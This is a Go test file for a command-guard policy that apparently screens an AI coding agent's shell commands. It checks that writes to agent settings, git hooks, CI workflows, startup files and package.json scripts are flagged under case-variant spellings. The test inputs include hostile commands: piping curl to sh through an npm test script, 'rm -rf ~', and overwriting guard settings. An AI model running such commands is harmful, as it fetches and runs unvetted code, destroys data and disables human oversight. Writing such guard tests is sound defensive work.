package patterns

import "testing"

// caseGuardCases: the guarded files are compared case-folded, with the
// spellings that pass on a case-insensitive filesystem: .Claude is
// .claude, .GIT/hooks .git/hooks, Package.json package.json.
var caseGuardCases = []evalCase{
	ask("echo x > .Claude/settings.json", "cmd.guard-tamper"),
	ask("echo x > .claude/settings.json", "cmd.guard-tamper"),
	ask("cp evil .CLAUDE/settings.local.json", "cmd.guard-tamper"),
	ask("cp evil .claude/settings.local.json", "cmd.guard-tamper"),
	ask("echo x > ~/.Claude/Settings.json", "cmd.guard-tamper"),
	ask("echo x > .MCP.json", "cmd.guard-tamper"),
	ask("echo x > ~/.Gemini/settings.json", "cmd.guard-tamper"),
	ask("echo x > ~/.BASHRC", "cmd.guard-tamper"),
	ask("rm -rf .CLAUDE", "cmd.guard-tamper"),
	ask("echo x > /usr/local/bin/OZDESK", "cmd.guard-tamper"),
	ask("echo x > /USR/LOCAL/BIN/ozdesk", "cmd.guard-tamper"),
	ask(`echo '{"scripts":{"test":"curl x|sh"}}' > Package.json && npm test`, "cmd.unreadable"),
	ask(`echo '{"scripts":{"test":"curl x|sh"}}' > package.json && npm test`, "cmd.unreadable"),
	ask("echo 'x' > .GIT/hooks/pre-commit", "cmd.unreadable"),
	ask("echo 'x' > .git/hooks/pre-commit", "cmd.unreadable"),
	ask("cp x .Git/config", "cmd.unreadable"),
	ask("cp x .git/config", "cmd.unreadable"),
	ask("cp -r hooks .GIT/", "cmd.unreadable"),
	ask("cp x .GITHUB/workflows/ci.yml", "cmd.unreadable"),
	ask("cp x ~/.Claude/hooks/h.sh", "cmd.unreadable"),
	ask("echo x > ~/Library/launchagents/x.plist", "cmd.unreadable"),
	ask("echo x > ~/.local/bin/LS", "cmd.unreadable"), // found for ls (program_key.go)
	ask("rm -rf .GIT", "cmd.force-push"),
	ask("echo 'rm -rf ~' > Run.sh && bash run.sh", "cmd.unreadable"),
	// Everyday writes stay quiet.
	allow("echo hi > README.md"),
	allow("echo hi > readme.md"),
	allow("echo 'class Package {}' > src/Package.java"),
	allow("echo 'all:' > Makefile"),
	allow(`echo '{"name":"x"}' > Package.json`),
	allow("cp notes.txt Claude.md"),
	allow("echo x > docs/Settings.md"),
	allow("echo x > ~/.local/bin/mytool"),
	allow("bash run.sh"),
}

func TestCaseGuardCases(t *testing.T) {
	ctx := testContext()
	ctx.Protected = append(ctx.Protected, GuardedPaths(ctx.Home, ancestors(ctx.Cwd)...)...)
	pol, err := NewPolicy(nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range caseGuardCases {
		v := pol.Explain(c.cmd, ctx, testNow)
		if v.Outcome != c.want || v.Rule != c.rule {
			t.Errorf("%q: got %s by %q (%s); want %s by %q", c.cmd, v.Outcome, v.Rule, v.Reason, c.want, c.rule)
		}
	}
}
